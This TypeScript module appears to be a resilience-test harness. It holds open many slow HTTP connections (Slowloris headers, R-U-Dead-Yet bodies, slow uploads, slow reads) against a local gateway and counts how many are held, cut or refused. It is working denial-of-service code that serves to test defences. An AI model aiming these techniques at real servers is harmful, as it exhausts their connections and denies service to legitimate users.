import { connect, type Socket } from 'node:net'

/** Ways to hold a connection with next to no effort of one's own. */
export const tricks = {
  /** One more header now and then, and never the empty line that ends the head (Slowloris). */
  'slow headers': { opening: 'GET / HTTP/1.1\r\nHost: shop.example\r\n', more: 'X-More: 1\r\n' },
  /** A body that is announced and comes byte by byte (R-U-Dead-Yet), while the gateway holds it back to judge it. */
  'slow body': { opening: post('/'), more: 'a' },
  /** The same on a route that sends bodies on unseen, so that a connection to the application is held too. */
  'slow upload': { opening: post('/raw'), more: 'a' },
  /** A large answer that is read at 1 KiB a second. The blank lines mean nothing: only who writes learns that he is cut. */
  'slow read': { opening: 'GET /?bytes=50000000 HTTP/1.1\r\nHost: shop.example\r\n\r\n', more: '\r\n' },
} as const

export type Trick = keyof typeof tricks

/** What became of the connections of one kind. */
export interface Tally {
  readonly trick: Trick
  opened: number
  held: number
  /** Ended by the gateway. */
  cut: number
  /** Never came up. */
  refused: number
}

export interface Attack {
  readonly tallies: readonly Tally[]
  stop(): void
}

const everyMs = 1_000
/** They come one after another: that many at once would measure connecting, not holding. */
const rampMs = 2_000
const readAtOnce = 1_024

/** Keeps so many connections of each kind; whoever is cut comes again within a second. */
export function attack(port: number, connectionsEach: number): Attack {
  const sockets = new Set<Socket>()
  const tallies = (Object.keys(tricks) as Trick[]).map((trick) => ({ trick, opened: 0, held: 0, cut: 0, refused: 0 }))
  let over = false
  const open = (tally: Tally): void => {
    if (over) return
    const socket = hold(port, tricks[tally.trick])
    let connected = false
    sockets.add(socket)
    socket.once('connect', () => {
      connected = true
      tally.opened++
      tally.held++
    })
    socket.once('close', () => {
      sockets.delete(socket)
      if (over) return
      if (connected) {
        tally.held--
        tally.cut++
      } else tally.refused++
      setTimeout(open, Math.random() * everyMs, tally).unref()
    })
  }
  const comers = tallies.flatMap((tally) =>
    Array.from({ length: connectionsEach }, (_, i) => setTimeout(open, (i / connectionsEach) * rampMs, tally)),
  )
  return {
    tallies,
    stop() {
      over = true
      for (const timer of comers) clearTimeout(timer)
      for (const socket of sockets) socket.destroy()
    },
  }
}

function hold(port: number, { opening, more }: (typeof tricks)[Trick]): Socket {
  // A small buffer of its own, and a pause after each: Node would read 64 KiB at a time.
  const onread = { buffer: Buffer.alloc(readAtOnce), callback: () => false }
  const socket = connect({ port, host: '127.0.0.1', onread })
  socket.on('error', () => undefined)
  socket.write(opening)
  const timer = setInterval(() => {
    socket.resume()
    if (socket.writable) socket.write(more)
  }, everyMs)
  socket.once('close', () => clearInterval(timer))
  return socket
}

function post(path: string): string {
  return `POST ${path} HTTP/1.1\r\nHost: shop.example\r\nContent-Type: text/plain\r\nContent-Length: 1000000\r\n\r\n`
}
